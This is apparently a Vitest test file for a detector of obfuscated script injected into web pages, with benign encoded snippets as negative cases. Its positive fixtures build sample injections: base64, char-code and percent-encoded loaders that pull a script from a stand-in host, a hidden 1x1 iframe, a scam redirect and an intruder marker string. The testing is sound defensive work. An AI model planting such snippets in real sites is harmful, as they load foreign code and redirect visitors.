import { expect, test } from 'vitest'
import { hiddenCode } from './hidden-code.ts'

const brings = "var a=document.createElement('script');a.src='https://other.example/a.js';document.head.appendChild(a);"
const inPercent = (text: string) => [...text].map(one => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const inNumbers = (text: string) => [...text].map(one => one.charCodeAt(0)).join(',')
const frame = '<iframe src="https://other.example/" width=1 height=1></iframe>'

test.each([
  ['base64', `eval(atob("${btoa(brings)}"))`],
  ['base64 in a function', `new Function(atob('${btoa(brings)}'))()`],
  ['codes of letters', `document.write(unescape('${inPercent(frame)}'))`],
  ['numbers', `eval(String.fromCharCode(${inNumbers(brings)}))`],
  ['a move to another page', `eval(atob("${btoa("window.location.href='https://other.example/win-a-prize'")}"))`],
  ['a marker of intruders', ';if(typeof ndsw==="undefined"){var q=1}'],
])('code hidden in %s is found', (_, code) => {
  expect(hiddenCode(code)).toBeDefined()
})

const counter = `document.write(unescape("%3Cscript src='" + host + "counter.example/ga.js' type='text/javascript'%3E%3C/script%3E"));`
const mail = '<a href="mailto:info@calloway.example">info@calloway.example</a>'
test.each([
  ['a counter of old', counter],
  ['a fallback of old', `document.write(unescape('%3Cscript src="js/jquery-1.5.1.min.js"%3E%3C/script%3E'))`],
  ['an address of mail', `eval(unescape('${inPercent(`document.write('${mail}')`)}'))`],
  ['an address of mail in numbers', `eval(String.fromCharCode(${inNumbers(`document.write('${mail}')`)}))`],
  [
    'a page that nobody is to copy',
    `document.write(unescape('${inPercent(`<body><p>Roofs</p><script>a()</script>`)}'))`,
  ],
  ['data', `var settings = JSON.parse(atob("${btoa('{"name":"Calloway","location":"Macon","hours":"8 to 5"}')}"))`],
  ['a sum', 'var a = eval("1 + 2"); document.write(new Date().getFullYear())'],
  ['nothing', ''],
])('%s is no code of intruders', (_, code) => {
  expect(hiddenCode(code)).toBeUndefined()
})
